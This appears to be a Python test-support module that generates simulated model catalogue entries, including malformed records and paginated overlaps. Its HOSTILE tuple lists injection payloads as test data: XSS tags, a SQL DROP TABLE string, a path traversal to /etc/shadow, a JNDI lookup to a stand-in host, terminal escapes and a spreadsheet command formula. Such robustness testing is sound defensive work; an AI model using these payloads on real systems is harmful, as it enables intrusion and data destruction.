"""What the simulated catalogues share: texts that attack whoever reads them, and broken entries."""

from __future__ import annotations

from random import Random
from typing import Any

from simhub.clock import DAY0, DAY_SECONDS, iso

#: Every string is data and must stay data.
HOSTILE = (
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "'; DROP TABLE core.model; --",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "../../../../etc/shadow",
    "%s%n{0.__class__}${jndi:ldap://evil.invalid}{{7*7}}",
    "before\x00after",
    "\u202egnp.exe\u200b\ufeff",
    '=cmd|"/c calc"!A1',
    "模型 für Ωμέγα 🦙 naïve",
    "quote\"'`\\ and\ttab\r\nand line",
)
WORDS = (
    "atlas",
    "ember",
    "falcon",
    "harbor",
    "lumen",
    "mirror",
    "nimbus",
    "orchid",
    "quartz",
    "raven",
    "sable",
    "willow",
)
OWNERS = ("north-lab", "deepfield", "u_tokai", "quill.ai", "mira", "Ivo-Research")
PAPERS = ("1810.04805", "1706.03762", "2307.09288", "2010.11929")


def name(rng: Random, number: int) -> str:
    """A name of its own: it carries the running number."""
    return f"{rng.choice(WORDS)}-{rng.choice(WORDS)}-{number}"


def moment(rng: Random, before: int = 700) -> str:
    """Some time before the first simulated day."""
    return iso(DAY0 - rng.randrange(before * DAY_SECONDS))


def text(rng: Random, number: int, hostile: bool) -> str | None:
    """A description; now and then none, and where asked for something that bites."""
    if hostile and number % 4 == 1:
        return HOSTILE[number // 4 % len(HOSTILE)]
    return None if number % 7 == 3 else f"A {rng.choice(WORDS)} model for {rng.choice(WORDS)} data."


def broken(names: str) -> list[Any]:
    """Entries that no catalogue should have: no object, no name, types that do not fit."""
    return [
        "just a string",
        None,
        {"title": "without a name"},
        {names: None},
        {names: ""},
        {names: ["x"], "title": 17},
    ]


def overlapping(entries: list[Any], page: int, size: int) -> list[Any]:
    """A page that begins with the last entry of the page before, as listings do that move while they are read."""
    start = page * size
    return entries[max(start - 1, 0) : start + size]
